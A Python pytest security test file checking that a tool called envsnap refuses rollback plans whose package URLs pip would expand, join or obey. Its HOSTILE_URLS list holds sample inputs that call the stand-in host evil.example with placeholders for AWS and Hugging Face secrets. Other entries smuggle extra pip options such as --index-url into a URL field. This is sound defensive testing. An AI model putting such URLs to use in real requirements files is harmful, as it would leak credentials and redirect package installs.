"""1. Rollback plans never carry what pip's requirements parser would expand, join or obey.

The output is parsed with pip's own requirements-file parser (``pip._internal.req.req_file``,
with a real ``PipSession``), in an environment holding the secrets the URL asks for.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from envsnap.errors import BadInput
from envsnap.render.rollback import render_plan
from envsnap.rollback.plan import plan
from tests.security.conftest import run_cli, url_package, with_package, write

SECRET = "AKIAIOSFODNN7EXAMPLEsecretvalue"

HOSTILE_URLS = [
    "https://evil.example/${AWS_SECRET_ACCESS_KEY}/${HF_TOKEN}/foo-1.0-py3-none-any.whl",
    "https://evil.example/$AWS_SECRET_ACCESS_KEY/foo-1.0-py3-none-any.whl",
    "https://evil.example/{x}/foo-1.0-py3-none-any.whl",
    "https://evil.example/foo-1.0-py3-none-any.whl\\",
    "https://evil.example/a\\b/foo-1.0-py3-none-any.whl",
    "-e https://evil.example/foo",
    "https://evil.example/ --index-url https://evil.example/simple",
    "https://evil.example/\tfoo",
]


def _pip_parse(path: Path) -> list[str]:
    from pip._internal.network.session import PipSession
    from pip._internal.req.req_file import parse_requirements

    return [parsed.requirement for parsed in parse_requirements(str(path), session=PipSession())]


@pytest.mark.parametrize("url", HOSTILE_URLS)
def test_a_url_pip_would_expand_join_or_obey_is_refused(url: str) -> None:
    with pytest.raises(BadInput, match="refusing to restore"):
        plan(with_package(url_package(url)))


@pytest.mark.parametrize("fmt", ["requirements", "conda"])
def test_the_cli_refuses_an_exfiltrating_url_in_every_format(
    fmt: str, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", SECRET)
    path = write(tmp_path, with_package(url_package(HOSTILE_URLS[0])))
    code, out, err = run_cli(capsys, "rollback", str(path), "--no-live", "--format", fmt)
    assert code == 2
    assert out == ""
    assert len(err.strip().splitlines()) == 1


def test_pip_reads_back_exactly_the_pins_written(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """What pip's parser sees equals the plan's pins: no line joined, no variable expanded."""
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", SECRET)
    snapshot = with_package(url_package("https://files.example/wheels/foo-1.0-py3-none-any.whl"))
    restore = plan(snapshot)
    requirements = tmp_path / "requirements.txt"
    requirements.write_text(render_plan(restore, "requirements"))
    parsed = _pip_parse(requirements)
    assert parsed == [pin.requirement for pin in restore.pins]
    assert not any(SECRET in line for line in parsed)
